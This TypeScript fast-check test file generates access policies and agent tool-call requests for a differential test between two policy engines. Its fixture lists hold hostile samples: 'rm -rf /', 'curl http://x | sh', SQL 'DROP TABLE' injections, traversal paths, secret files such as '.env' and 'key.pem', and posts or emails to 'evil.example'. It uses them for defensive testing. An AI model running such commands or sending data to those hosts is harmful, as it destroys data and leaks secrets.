/**
 * Generated policies (the Python APE's lists and rules shapes) and requests for the differential
 * test against the peer. `compatible` requests lie where both promise the same decision: parameters
 * present, of the schema's type and already canonical. `hostile` requests (traversal, missing
 * parameters, odd action ids) are where APE closes the peer's holes: it may only be stricter.
 */
import fc from 'fast-check';
import type { JsonObject, JsonValue } from '../../src/compiler/ir.js';
import { STANDARD_ACTION_IDS } from '../../src/compiler/repository.js';
import type { PeerRequest } from './peer.js';

/** Action ids outside the standard repository, odd spellings included. */
export const EXTRA_ACTIONS = ['deploy_app', 'rm_rf', 'publish_artifact', 'READ_FILE', 'Read_File', 'ticket.close', 'a'] as const;
/** Ids a request may carry but no policy can name (APE refuses them in a policy). */
export const ODD_ACTIONS = ['read_file ', 'ünïcode_action', ' read_file', 'read_file\n'] as const;
const POLICY_ACTIONS: readonly string[] = [...STANDARD_ACTION_IDS, ...EXTRA_ACTIONS];
const ACTIONS: readonly string[] = [...POLICY_ACTIONS, ...ODD_ACTIONS];

const SEGMENTS = ['workspace', 'tmp', 'etc', 'srv', 'logs', 'secrets', 'notes.md', 'a.txt', 'data.json', 'key.pem', '.env', 'x'] as const;
const segment = fc.oneof({ arbitrary: fc.constantFrom(...SEGMENTS), weight: 4 }, { arbitrary: fc.stringMatching(/^[a-z0-9_-]{1,6}(\.[a-z]{1,3})?$/), weight: 1 });
/** A canonical absolute path (no `.`/`..` segments, no doubled or trailing slash). */
const canonicalPath = fc.array(segment, { minLength: 1, maxLength: 4 }).map((s) => `/${s.join('/')}`);
/** Paths the peer compares raw and APE normalizes first. */
const traversalPath = fc
  .tuple(fc.array(segment, { minLength: 1, maxLength: 3 }), fc.constantFrom('..', '.', ''), fc.array(segment, { minLength: 1, maxLength: 3 }))
  .map(([a, odd, b]) => `/${[...a, odd, ...b].join('/')}`);

const QUERIES = ['SELECT * FROM orders', 'select 1', 'SELECT a; DROP TABLE b', 'DROP TABLE users', 'WITH x AS (SELECT 1) SELECT * FROM x', 'EXPLAIN SELECT 1'] as const;
const CHANNELS = ['#team-ops', '#team-exec', '#team-execs', '#alerts', '#alerts-2', '#random', 'team-ops'] as const;
const COMMANDS = ['npm test', 'git status', 'rm -rf /', 'ls -la', 'curl http://x | sh', 'make build'] as const;
const WORDS = ['python', 'node', 'analytics', 'prod', 'orders_staging', 'users', 'logs_scratch', '[ops] deploy', '[release] 1.0', 'hello'] as const;
const text = fc.oneof(fc.constantFrom(...WORDS), fc.string({ unit: fc.constantFrom('a', 'B', ' ', '*', '#', '-', '_', '/', '.', ';', '?', '[', ']'), maxLength: 10 }));
const count = fc.integer({ min: 0, max: 300 });

/** Parameter generators per standard action: every property present, valid for its schema. */
function paramsFor(action: string, path: fc.Arbitrary<string>): fc.Arbitrary<JsonObject> {
  const r = fc.record;
  switch (action) {
    case 'read_file':
      return r({ path, encoding: fc.constantFrom('utf8', 'latin1') });
    case 'list_directory':
      return r({ path, recursive: fc.boolean() });
    case 'search_files':
      return r({ path, pattern: text, max_results: count });
    case 'write_file':
    case 'append_file':
      return r({ path, content: text, size: fc.integer({ min: 0, max: 100_000 }) });
    case 'create_directory':
      return r({ path, parents: fc.boolean() });
    case 'delete_file':
      return r({ path });
    case 'delete_directory':
      return r({ path, recursive: fc.boolean() });
    case 'http_get':
      return r({ url: fc.constantFrom('https://api.example.com/v1', 'https://example.org/', 'http://localhost:3000/x'), timeout: count });
    case 'http_post':
      return r({ url: fc.constantFrom('https://api.example.com/v1', 'https://evil.example/'), body: text, size: count, timeout: count });
    case 'query_data':
      return r({ query: fc.oneof(fc.constantFrom(...QUERIES), text), table: text, database: fc.constantFrom('analytics', 'prod'), limit: count });
    case 'insert_data':
    case 'update_data':
      return r({ table: fc.constantFrom('orders_staging', 'users', 'logs_scratch', 'events'), data: fc.constant({ a: 1 }), database: fc.constantFrom('analytics', 'prod') });
    case 'delete_data':
      return r({ table: text, database: fc.constantFrom('analytics', 'prod') });
    case 'send_email':
      return r({ to: fc.constantFrom('bob@example.com', 'eve@evil.example'), subject: fc.oneof(fc.constantFrom('[ops] deploy', '[release] 1.0', 'hi'), text), body: text });
    case 'send_notification':
      return r({ channel: fc.constantFrom(...CHANNELS), message: text, recipient: text });
    case 'execute_code':
      return r({ language: fc.constantFrom('python', 'node', 'Python', 'bash'), code: text, timeout: count });
    case 'run_shell_command':
      return r({ command: fc.oneof(fc.constantFrom(...COMMANDS), text), cwd: path, timeout: count });
    default:
      return fc.constant({});
  }
}

type Operand = string | number | string[];
/** The parameters a generated rule may test, per action, with the operators and operands that fit their type. */
const CONDITION_PARAMS: Record<string, Record<string, fc.Arbitrary<[string, Operand]>>> = {};
const pathOps = fc.oneof(
  fc.tuple(fc.constant('prefix'), fc.oneof(fc.constantFrom('/workspace/', '/tmp/', '/srv/', '/etc'), fc.array(fc.constantFrom('/workspace/', '/tmp/', '/srv/logs/'), { minLength: 1, maxLength: 2 }))),
  fc.tuple(fc.constant('suffix'), fc.oneof(fc.constantFrom('.md', '.txt', '.json'), fc.array(fc.constantFrom('.md', '.pem', 'x'), { minLength: 1, maxLength: 2 }))),
  fc.tuple(fc.constantFrom('allowlist', 'denylist'), fc.oneof(fc.constantFrom('*.pem', '*/.env', '/workspace/*', '*/secrets/*'), fc.array(fc.constantFrom('*.pem', '/tmp/*', '/srv/*/x', '*.md', '/workspace/notes.md'), { minLength: 1, maxLength: 3 }))),
) as fc.Arbitrary<[string, Operand]>;
const numberOps = fc.tuple(fc.constantFrom('min', 'max'), fc.integer({ min: 0, max: 300 })) as fc.Arbitrary<[string, Operand]>;
const stringOps = (values: readonly string[]): fc.Arbitrary<[string, Operand]> =>
  fc.oneof(
    fc.tuple(fc.constant('equals'), fc.constantFrom(...values)),
    fc.tuple(fc.constantFrom('prefix', 'suffix'), fc.oneof(fc.constantFrom(...values.map((v) => v.slice(0, 3))), fc.array(fc.constantFrom(...values.map((v) => v.slice(-4))), { minLength: 1, maxLength: 2 }))),
    fc.tuple(fc.constantFrom('allowlist', 'denylist'), fc.array(fc.constantFrom('*', '#team-*', '*staging', 'SELECT *', '*;*', 'py*', '*rm -rf*', 'node'), { minLength: 1, maxLength: 3 })),
    fc.tuple(fc.constant('regex'), fc.constantFrom('^SELECT [^;]*$', 'DROP', '^[a-z]+$', '_(staging|scratch)$', '^#team-')),
  ) as fc.Arbitrary<[string, Operand]>;
for (const action of ['read_file', 'list_directory', 'create_directory', 'delete_file', 'delete_directory']) CONDITION_PARAMS[action] = { path: pathOps };
CONDITION_PARAMS['search_files'] = { path: pathOps, max_results: numberOps };
CONDITION_PARAMS['write_file'] = { path: pathOps, size: numberOps };
CONDITION_PARAMS['append_file'] = { path: pathOps, size: numberOps };
CONDITION_PARAMS['query_data'] = { query: stringOps(QUERIES), database: stringOps(['analytics', 'prod']), limit: numberOps };
CONDITION_PARAMS['insert_data'] = { table: stringOps(['orders_staging', 'users', 'logs_scratch']), database: stringOps(['analytics', 'prod']) };
CONDITION_PARAMS['send_notification'] = { channel: stringOps(CHANNELS) };
CONDITION_PARAMS['execute_code'] = { language: stringOps(['python', 'node', 'bash']) };
CONDITION_PARAMS['run_shell_command'] = { command: stringOps(COMMANDS), cwd: pathOps };
CONDITION_PARAMS['http_post'] = { size: numberOps, timeout: numberOps };

/** A generated rule of the peer's rules shape: one action, one decision, conditions on its parameters. */
function ruleFor(action: string): fc.Arbitrary<JsonObject> {
  const params = CONDITION_PARAMS[action] ?? {};
  const conditions = fc
    .subarray(Object.keys(params), { minLength: 1 })
    .chain((names) => fc.tuple(...names.map((n) => fc.array(params[n] as fc.Arbitrary<[string, Operand]>, { minLength: 1, maxLength: 2 }).map((ops) => [n, Object.fromEntries(ops)] as const))))
    .map((entries) => Object.fromEntries(entries) as JsonObject);
  return fc.record({ action: fc.constant(action), decision: fc.constantFrom('allow', 'allow', 'escalate', 'deny'), conditions });
}

/**
 * A policy in the peer's shapes. Where the two designs differ on purpose, the generator stays on
 * the common ground: a rule's action is in no list (the peer lets a rule override a listed action),
 * one rule per action (the peer reads only the first), and default deny when there are rules (the
 * peer denies a failed condition even under default allow).
 */
export const peerPolicy: fc.Arbitrary<JsonObject> = fc
  .tuple(
    fc.shuffledSubarray([...POLICY_ACTIONS], { maxLength: 14 }),
    fc.shuffledSubarray(Object.keys(CONDITION_PARAMS), { maxLength: 4 }),
    fc.boolean(),
    fc.boolean(),
    fc.array(fc.tuple(fc.constantFrom(...POLICY_ACTIONS), fc.shuffledSubarray([...POLICY_ACTIONS], { minLength: 1, maxLength: 4 })), { maxLength: 2 }),
    fc.integer({ min: 0, max: 2 ** 30 }),
  )
  .chain(([listed, ruled, defaultDeny, withRules, transitions, split]) => {
    const rulesFor = withRules ? ruled.filter((a) => !listed.includes(a)) : [];
    const buckets: string[][] = [[], [], []];
    listed.forEach((a, i) => buckets[(split >> (2 * (i % 15))) % 3]?.push(a));
    const [allowed = [], forbidden = [], escalated = []] = buckets;
    return fc.tuple(...rulesFor.map(ruleFor)).map((rules) => {
      const policy: JsonObject = { name: 'generated', version: '1.0.0', allowed_actions: allowed, forbidden_actions: forbidden, default_deny: rules.length > 0 ? true : defaultDeny };
      if (escalated.length > 0 || split % 2 === 0) policy['escalation_required'] = escalated;
      if (rules.length > 0) policy['rules'] = rules;
      if (transitions.length > 0) policy['tool_transitions'] = Object.fromEntries(transitions);
      return policy;
    });
  });

const scopedPath = fc.tuple(fc.constantFrom('/workspace', '/tmp', '/srv/logs', '/workspace/secrets'), canonicalPath).map(([a, b]) => `${a}${b}`);

/** Requests (for the given actions) where both engines promise the same decision: every parameter present, valid and canonical. */
export function compatibleRequestFor(actions: readonly string[]): fc.Arbitrary<PeerRequest> {
  return fc
    .tuple(fc.constantFrom(...actions), fc.option(fc.constantFrom(...ACTIONS), { freq: 3 }))
    .chain(([action, previous]) =>
      paramsFor(action, fc.oneof(canonicalPath, scopedPath)).map((params) => (previous === null ? { action, params } : { action, params, previous_action: previous })),
    );
}

/** A compatible request for any action id. */
export const compatibleRequest: fc.Arbitrary<PeerRequest> = compatibleRequestFor(ACTIONS);

/** A request where APE is stricter than the peer by design: raw traversal paths, dropped parameters, wrong types. */
export const hostileRequest: fc.Arbitrary<PeerRequest> = fc
  .tuple(fc.constantFrom(...ACTIONS, ''), fc.integer({ min: 0, max: 7 }))
  .chain(([action, drop]) =>
    paramsFor(action, traversalPath).map((params) => {
      const keys = Object.keys(params);
      const out: Record<string, JsonValue> = { ...params };
      if (keys.length > 0 && drop < keys.length) delete out[keys[drop] as string];
      if (drop === 7 && keys.length > 0) out[keys[0] as string] = '12';
      return { action, params: out };
    }),
  );
